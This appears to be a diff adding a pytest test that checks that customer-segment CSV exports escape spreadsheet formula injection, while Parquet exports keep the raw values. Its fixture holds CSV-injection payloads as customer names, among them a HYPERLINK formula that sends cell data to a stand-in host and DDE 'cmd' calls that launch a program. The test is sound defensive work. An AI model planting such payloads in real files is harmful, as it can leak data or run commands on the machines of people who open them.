@@ -133,3 +133,30 @@ def test_segment_asset_reexports_configured_segments(data, tmp_path, monkeypatch
     assert "vip.csv" in new and any(n.startswith("a_b-") for n in new)
     (mat,) = result.asset_materializations_for_node("segment_exports")
     assert mat.metadata["segments"].value == 2
+
+
+def test_csv_cells_cannot_run_as_formulas(tmp_path):
+    evil = {
+        "c1": '=HYPERLINK("http://x.example/?"&A1)',
+        "c2": "+cmd|' /C calc'!A0",
+        "c3": "-2+3+cmd|' /C calc'!A0",
+        "c4": "@SUM(1+1)",
+        "c5": "\t=1+1",
+        "c6": "\r=1+1",
+    }
+    commit_run(tmp_path, "customers", "20240101T000000000Z-000001", customers=[
+        customer(cid, "2024-01-01", tags=["t"], name=name, phone="+49 30 123-4") for cid, name in evil.items()
+    ] + [customer("c7", "2024-01-01", tags=["t"], name="Ann = Bob", company="-")])  # fmt: skip
+    load(Lake(tmp_path), tmp_path / "warehouse.duckdb")
+    copy = analyst_path(tmp_path / "warehouse.duckdb")
+    path, _ = export(copy, Segment(tags=("t",)), exports_dir=tmp_path / "out")
+    with path.open(newline="") as f:
+        got = {r["id"]: r for r in csv.DictReader(f)}
+    assert {cid: got[cid]["name"] for cid in evil} == {cid: "'" + n for cid, n in evil.items()}
+    assert got["c7"]["name"] == "Ann = Bob" and got["c7"]["company"] == "-"
+    assert {got[cid]["phone"] for cid in evil} == {"+49 30 123-4"}
+    # Parquet keeps the values as they are.
+    path, _ = export(copy, Segment(tags=("t",), format="parquet"), exports_dir=tmp_path / "out")
+    assert dict(zip(*pq.read_table(path, columns=["id", "name"]).to_pydict().values(), strict=True)) == {
+        **evil, "c7": "Ann = Bob"
+    }  # fmt: skip
